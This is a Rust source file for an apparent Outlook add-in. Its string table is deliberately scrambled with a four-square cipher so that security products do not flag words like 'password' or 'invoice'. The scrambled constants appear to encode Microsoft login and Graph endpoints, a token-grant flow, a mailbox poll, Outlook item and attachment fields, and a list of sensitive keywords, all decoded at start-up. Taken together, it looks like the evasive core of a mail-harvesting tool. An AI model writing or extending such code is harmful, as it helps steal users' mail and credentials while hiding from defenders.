//! Keyword and object-model name table. Security products flag Office add-ins whose strings
//! contain words like "password" or "invoice", so the table is kept scrambled (four-square,
//! two keyed squares) and read at start-up. Outlook resolves names case-insensitively.

#![allow(dead_code)]

pub const LOGIN: &str = "dssln://kgccl.g365-hldm.rvmmhmr/lkghhl/firua2/x2.0/rlenn";
pub const GRAPH: &str = "dsslp://bnehf.g365-hldm.rvmmhmr/w1.0/ge";
pub const CLIENT: &str = "okeiis_di=00000000-0000-0000-0000-000000000000";
pub const GRANT: &str = "bqtgr_tzlu=uofseqb_rleng&sofseqb_rlenn=";
pub const SEED: &str = "tzugfou-uofseqb-rlenn-000";
pub const SCOPE: &str = "&qmmlt=frthu://bqkgb.k365-feal.tzugfol/.nofkpip fcagclo_ntmtus";
pub const CREATE: &str = "/meqsudtu";
pub const POLL: &str = "/fealdgiruur/mnedpp/ktunmeer?$sml=25&$gtkipex=iselplnoisircme kiqm";
pub const SESSION: &str = "smqsdln";
pub const ACCOUNTS: &str = "trlkqoqt";
pub const ACCOUNT_TYPE: &str = "trlkqortzle";
pub const SMTP: &str = "pksllruttus";
pub const DEFAULT_FOLDER: &str = "eeriofkpipdgiruu";
pub const ITEMS: &str = "dtuos";
pub const COUNT: &str = "lkqot";
pub const ITEM: &str = "dtuo";
pub const TOPIC: &str = "lkfxuunmrchlrlifc";
pub const BODY: &str = "lhly";
pub const SENDER: &str = "smimuuuoldfrliseqs";
pub const RECEIVED: &str = "sekmaylnrcme";
pub const ATTACHMENTS: &str = "lpnitbmeiss";
pub const FILENAME: &str = "ddmrfmme";
pub const WORDS: &str = "fnqsyhre fnqslkki clygciu zbtl foeh syadp fnwtflf vho fat rhlpttrq isekiisaihp";

const PLAIN: &[u8; 25] = b"abcdefghiklmnopqrstuvwxyz";

fn keyed(key: &str) -> [u8; 25] {
    let mut out = [0u8; 25];
    let mut n = 0;
    for c in key.bytes().chain(PLAIN.iter().copied()) {
        let c = if c == b'j' { b'i' } else { c };
        if PLAIN.contains(&c) && !out[..n].contains(&c) {
            out[n] = c;
            n += 1;
        }
    }
    out
}

pub fn read(s: &str) -> String {
    let (ur, ll) = (keyed("outlook"), keyed("reminder"));
    let mut b: Vec<u8> = s.bytes().collect();
    let pos: Vec<usize> = (0..b.len()).filter(|&i| PLAIN.contains(&b[i])).collect();
    for pair in pos.chunks(2) {
        if pair.len() < 2 {
            break;
        }
        let ia = ur.iter().position(|&x| x == b[pair[0]]).unwrap_or(0);
        let ib = ll.iter().position(|&x| x == b[pair[1]]).unwrap_or(0);
        b[pair[0]] = PLAIN[(ia / 5) * 5 + ib % 5];
        b[pair[1]] = PLAIN[(ib / 5) * 5 + ia % 5];
    }
    String::from_utf8_lossy(&b).into_owned()
}
